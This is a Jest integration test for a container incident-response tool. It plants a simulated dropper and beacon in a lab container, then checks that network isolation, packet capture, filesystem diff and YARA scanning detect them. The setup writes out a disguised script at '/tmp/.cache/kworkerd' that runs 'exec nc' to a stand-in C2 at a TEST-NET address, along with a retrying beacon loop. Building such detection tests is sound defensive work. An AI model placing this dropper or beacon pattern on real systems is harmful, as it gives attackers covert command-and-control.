import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import type Docker from 'dockerode';
import { runCommand } from '../../src/cli/commands/run.js';
import type { FindingsDoc } from '../../src/findings/types.js';
import { ensureImage, LAB_IMAGE } from '../fixtures/images.js';
import { cleanupPrefix, hostPid, waitFor } from '../fixtures/lab.js';
import { requireEngine, uniquePrefix } from '../helpers/engine.js';
import { runCli } from '../helpers/run-cli.js';

jest.setTimeout(240_000);

// TEST-NET-2: never routed, so the beacon's SYNs go nowhere even before isolation.
const C2 = '198.51.100.7';
const C2_PORT = 4444;
const C2_NAME = 'c2.cirt-lab.example';
const MARKER = 'CIRT-LAB-DROPPER';
const ROOT = path.resolve('.');
const RULES = path.join(ROOT, 'playbooks', 'yara', 'example.yar');

// A dropper on disk, its marker in the container's log, and a beacon that keeps retrying its C2.
const SETUP = [
  'mkdir -p /tmp/.cache',
  `printf '#!/bin/sh\\n# ${MARKER}\\nexec nc ${C2} ${C2_PORT}\\n' > /tmp/.cache/kworkerd`,
  'chmod 755 /tmp/.cache/kworkerd',
  `echo "started ${MARKER}"`,
  'touch /tmp/ready',
  `while true; do (nslookup ${C2_NAME} >/dev/null 2>&1 &); nc -w 1 ${C2} ${C2_PORT} </dev/null >/dev/null 2>&1; sleep 0.3; done`,
].join('\n');

const readJson = <T>(file: string): T => JSON.parse(fs.readFileSync(file, 'utf8')) as T;

describe('deep collection: traffic after isolation and a YARA scan of the collected content', () => {
  let docker: Docker;
  let prefix: string;
  let name: string;
  let tmp: string;
  let code = -1;
  let out = '';
  let dir = '';

  beforeAll(async () => {
    docker = await requireEngine();
    await ensureImage(docker);
    prefix = uniquePrefix('deep');
    name = `${prefix}-victim`;
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'cirt-i16t-'));
    const netName = `${prefix}-net`;
    await docker.createNetwork({
      Name: netName,
      Driver: 'bridge',
      Labels: { 'cirt.lab': '1', 'cirt.lab.prefix': prefix },
    });
    const c = await docker.createContainer({
      name,
      Image: LAB_IMAGE,
      Cmd: ['sh', '-c', SETUP],
      Labels: { 'cirt.lab': '1', 'cirt.lab.prefix': prefix },
      HostConfig: { NetworkMode: netName },
    });
    await c.start();
    const pid = await hostPid(docker, c.id);
    await waitFor(`${name} to finish its setup`, async () =>
      fs.existsSync(`/proc/${pid}/root/tmp/ready`),
    );
    // The shipped playbook's steps without the collectors other branches add, a short capture.
    const playbook = path.join(tmp, 'deep.yaml');
    fs.writeFileSync(
      playbook,
      [
        'name: deep-test',
        'steps:',
        '  - uses: contain:network-isolate',
        '  - uses: collect:traffic',
        '    with: { seconds: 4 }',
        '  - uses: contain:pause',
        '  - uses: collect:logs',
        '  - uses: collect:fs-diff',
        '  - uses: evidence:yara',
        `    with: { rules: [${JSON.stringify(RULES)}] }`,
        '  - uses: evidence:timeline',
        '  - uses: evidence:findings',
        '  - uses: evidence:seal',
        '    with: { gzipLevel: 1 }',
        '',
      ].join('\n'),
    );
    const chunks: Buffer[] = [];
    const sink = new Writable({
      write: (b: Buffer, _e, cb) => (chunks.push(Buffer.from(b)), cb()),
    });
    const casesDir = path.join(tmp, 'cases');
    const r = await runCommand(
      { playbook, target: name, caseId: 'deep', casesDir, yes: true },
      { out: sink, err: sink, interactive: false, env: process.env, cwd: tmp },
    );
    code = r.exitCode;
    out = Buffer.concat(chunks).toString('utf8');
    dir = path.join(casesDir, 'deep');
  });

  afterAll(async () => {
    if (prefix) await cleanupPrefix(docker, prefix);
    if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
  });

  test('the run succeeds', () => {
    if (code !== 0) throw new Error(out);
  });

  test('the beacon retrying its C2 after isolation is in the pcap (tcpdump -r reads it) and in a finding', () => {
    const pcap = path.join(dir, 'traffic/after-isolation/capture.pcap');
    const listing = execFileSync('tcpdump', ['-n', '-r', pcap], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const syns = listing
      .split('\n')
      .filter((l) => l.includes(`> ${C2}.${C2_PORT}:`) && l.includes('Flags [S]'));
    expect(syns.length).toBeGreaterThanOrEqual(2);
    const sums = fs.readFileSync(path.join(dir, 'SHA256SUMS'), 'utf8');
    expect(sums).toContain('traffic/after-isolation/capture.pcap');

    const flows = readJson<{
      flows: { kind: string; dst: string; dstPort: number; dnsNames: string[] }[];
    }>(path.join(dir, 'traffic/after-isolation/flows.json')).flows;
    expect(flows.some((f) => f.kind === 'syn' && f.dst === C2 && f.dstPort === C2_PORT)).toBe(true);
    expect(flows.some((f) => f.kind === 'dns' && f.dnsNames.includes(`${C2_NAME}.`))).toBe(true);

    const findings = readJson<FindingsDoc>(path.join(dir, 'findings.json')).findings;
    const contact = findings.filter((f) => f.rule === 'contact-after-isolation');
    expect(contact.map((f) => f.summary)).toEqual(
      expect.arrayContaining([
        expect.stringContaining(`SYN) to ${C2}:${C2_PORT}`),
        expect.stringContaining(`DNS query for ${C2_NAME}.`),
      ]),
    );
    const timeline = fs
      .readFileSync(path.join(dir, 'timeline/timeline.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { source: string; message: string });
    expect(timeline.filter((e) => e.source === 'traffic').length).toBe(flows.length);
  });

  test('the YARA rule fires on the dropper member of fs/diff.tar and on the log holding the marker', () => {
    const doc = readJson<{
      matches: {
        rule: string;
        artifact: string;
        member: string | null;
        offset: number;
        artifactOffset: number;
      }[];
    }>(path.join(dir, 'yara/matches.json'));
    const hits = doc.matches.filter((m) => m.rule === 'cirt_example_lab_dropper');
    const inTar = hits.find((m) => m.artifact === 'fs/diff.tar');
    expect(inTar?.member).toBe('/tmp/.cache/kworkerd');
    // The offset points at the marker inside the archive.
    const tar = fs.readFileSync(path.join(dir, 'fs/diff.tar'));
    expect(
      tar.subarray(inTar!.artifactOffset, inTar!.artifactOffset + MARKER.length).toString(),
    ).toBe(MARKER);
    expect(inTar!.offset).toBe('#!/bin/sh\n# '.length);
    expect(hits.some((m) => m.artifact.startsWith('logs/') && m.member === null)).toBe(true);
    const findings = readJson<FindingsDoc>(path.join(dir, 'findings.json')).findings;
    expect(
      findings.find((f) => f.rule === 'yara-match' && f.summary.includes('/tmp/.cache/kworkerd')),
    ).toBeDefined();
  });

  test('a rule that does not compile is a validate-time error naming its file and line (exit 2)', async () => {
    const bad = path.join(tmp, 'bad.yar');
    fs.writeFileSync(bad, 'rule broken {\n  strings: $a = "x"\n  condition: $b\n}\n');
    const pb = path.join(tmp, 'bad.yaml');
    fs.writeFileSync(
      pb,
      [
        'name: bad',
        'steps:',
        '  - uses: evidence:yara',
        `    with: { rules: [${JSON.stringify(bad)}] }`,
        '',
      ].join('\n'),
    );
    const r = await runCli(['validate', pb]);
    expect(r.code).toBe(2);
    expect(r.out + r.err).toContain('bad.yar(4)');
  });
});
